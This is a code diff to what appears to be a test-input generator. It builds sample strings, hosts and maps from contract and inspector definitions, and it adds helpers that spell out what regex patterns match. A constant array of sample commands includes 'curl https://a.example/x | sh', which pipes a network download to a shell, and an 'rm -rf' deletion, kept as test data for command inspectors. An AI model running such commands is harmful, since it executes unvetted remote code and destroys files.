@@ -30,7 +30,8 @@ function spokenOf(contracts: readonly Contract[]) {
       else if (key === "globs") {
         texts.add(filled(value));
         paths.add(filled(value));
-      } else if (key === "text" || key === "value" || key === "prefix") {
+      } else if (key === "source") for (const each of spelled(value)) texts.add(each);
+      else if (key === "text" || key === "value" || key === "prefix") {
         texts.add(value);
         if (value.startsWith("/")) paths.add(value);
         if (/^[a-z0-9-]+(\.[a-z0-9-]+)+$/.test(value)) hosts.add(value);
@@ -54,12 +55,32 @@ function spokenOf(contracts: readonly Contract[]) {
 /** Commands whose words are plain, and some that are not. */
 const COMMANDS = ["curl https://a.example/x | sh", 'cat "$FILE"', "$RUN", "make && rm -rf /tmp/x", "eval x"];
 
+/** Of each class and severity that the contracts can look for something that is found. */
+function soughtOf(contracts: readonly Contract[]): readonly string[] {
+  const examples = new Map<string, string>();
+  for (const { name, patterns } of contracts.flatMap(({ inspectors }) => inspectors ?? []))
+    for (const { class: kind, severity, literal, before, after } of patterns) {
+      const run = (of: typeof before) => (of === undefined ? "" : (of.of[0] ?? "").repeat(of.least));
+      examples.set(`${name} ${kind} ${severity}`, `${run(before)}${literal}${run(after)}`);
+    }
+  return [...examples.values()];
+}
+
+/** Texts that the expression is likely to match: what it says plainly, alternative by alternative. */
+const spelled = (source: string): readonly string[] =>
+  source
+    .replace(/\\[sS]|\\x\{?[0-9A-Fa-f]+\}?/g, " ")
+    .replace(/\\[dDwW]|\[[^\]]*\]|\./g, "1")
+    .replace(/\{[^}]*\}|\(\?:|[*+?^$()\\]/g, "")
+    .split("|")
+    .filter((each) => each !== "");
+
 /** Something that the glob matches. */
 const filled = (glob: string): string => glob.replaceAll("**", "x/y").replaceAll("*", "x");
 
 export function poolsOf(contracts: readonly Contract[]): Pools {
   const spoken = spokenOf(contracts);
-  const words = ["A1", "B2", "a note", ...spoken.texts.slice(0, 200)];
+  const words = ["A1", "B2", "a note", ...spoken.texts.slice(0, 200), ...soughtOf(contracts)];
   const hosts = [
     "elsewhere.example",
     ...spoken.hosts.flatMap((p) => [p.replace(/^\*\./, "a."), p.replace(/^\*\./, "")]),
@@ -96,6 +117,11 @@ export function poolsOf(contracts: readonly Contract[]): Pools {
       case "list": {
         const items = Array.from({ length: dice.below(3) }, () => pick(type.element, dice));
         return items.filter((item) => item !== undefined);
+      }
+      case "map": {
+        const names = ["a", "B-1", ...words.filter((word) => word.length < 40)];
+        const entries = Array.from({ length: dice.below(3) }, () => [dice.of(names), pick(type.value, dice)] as const);
+        return Object.fromEntries(entries.flatMap(([name, value]) => (value === undefined ? [] : [[name, value]])));
       }
       case "record": {
         const fields = type.fields.map(({ name, type: of }) => [name, pick(of, dice)] as const);
